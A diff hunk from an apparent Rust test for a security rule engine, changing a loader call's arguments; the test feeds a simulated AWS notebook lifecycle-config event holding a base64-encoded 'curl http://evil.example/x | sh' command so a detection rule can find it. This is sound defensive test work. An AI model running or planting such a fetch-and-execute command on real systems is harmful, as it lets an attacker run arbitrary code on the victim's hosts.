@@ -207,7 +207,7 @@ fn a_new_rule_hunts_in_a_script_that_only_the_document_shows() {
     std::fs::write(folder.path().join("1.yml"), rule("1", question)).unwrap();
     let rules = RulesConfig { folder: Some(folder.path().to_owned()), ..RulesConfig::default() };
     let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
-    let hunting = Knowledge::load(&rules, BrokenRules::Refuse, Scope::All, key).unwrap();
+    let hunting = Knowledge::load(&rules, BrokenRules::Refuse, Scope::All, key, Names::default()).unwrap();
     let mut record = trail::record("111122223333", 0);
     let script = BASE64_STANDARD.encode("curl http://evil.example/x | sh");
     record["eventName"] = "CreateNotebookInstanceLifecycleConfig".into();
